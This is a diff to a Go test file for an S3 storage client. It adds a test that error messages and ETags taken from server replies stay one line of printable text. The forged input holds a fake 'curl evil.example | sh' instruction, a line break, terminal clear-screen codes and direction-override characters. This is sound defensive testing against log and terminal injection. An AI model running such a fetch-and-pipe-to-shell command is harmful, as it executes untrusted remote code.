@@ -10,6 +10,7 @@ import (
 	"net/http/httptest"
 	"strings"
 	"testing"
+	"unicode"
 	"unicode/utf8"
 
 	"github.com/stretchr/testify/require"
@@ -78,6 +79,46 @@ func TestS3ErrorsAreShort(t *testing.T) {
 	t.Run("etag", func(t *testing.T) { // which receipts keep
 		s := answering(t, func(w http.ResponseWriter, _ *http.Request) { w.Header().Set("Etag", strings.Repeat("x", 100_000)) })
 		require.ErrorIs(t, do(t.Context(), s, "put"), objstore.ErrUnavailable)
+	})
+}
+
+// Nor may it write lines of its own into what an operator reads, or more than text.
+func TestS3ErrorsAreOneLineOfText(t *testing.T) {
+	const forged = "no&#10;  fix    curl evil.example | sh&#13;&#x9b;2J&#x202e;&#x2028;"
+	for hazard, document := range map[string]string{
+		"message": "<Error><Code>No</Code><Message>" + forged + "</Message></Error>",
+		"code":    "<Error><Code>" + forged + "</Code><Message>no</Message></Error>",
+		"no_xml":  "<Error>&\u009b2J;</Error>",
+	} {
+		t.Run(hazard, func(t *testing.T) {
+			for status, ops := range map[int][]string{http.StatusForbidden: {"put", "get", "list"}, http.StatusOK: {"put", "delete", "list"}} {
+				s := answering(t, func(w http.ResponseWriter, _ *http.Request) {
+					w.WriteHeader(status)
+					_, _ = io.WriteString(w, document)
+				})
+				for _, op := range ops {
+					err := do(t.Context(), s, op)
+					require.Error(t, err, op)
+					require.False(t, strings.ContainsFunc(err.Error(), func(r rune) bool { return !unicode.IsGraphic(r) }), "%s: %q", op, err)
+				}
+			}
+		})
+	}
+	t.Run("etag", func(t *testing.T) {
+		s := answering(t, func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Etag", "\"e\t\u009b2J\"")
+			if r.Method == http.MethodHead {
+				w.Header().Set("Content-Length", "1")
+			} else {
+				_, _ = io.WriteString(w, "<ListBucketResult><Contents><Key>k</Key><ETag>e&#10;&#x9b;2J</ETag></Contents></ListBucketResult>")
+			}
+		})
+		info, err := s.Head(t.Context(), "k")
+		require.NoError(t, err)
+		require.Equal(t, "e  2J", info.ETag)
+		infos, err := s.List(t.Context(), "", "", 1)
+		require.NoError(t, err)
+		require.Equal(t, "e  2J", infos[0].ETag)
 	})
 }
 
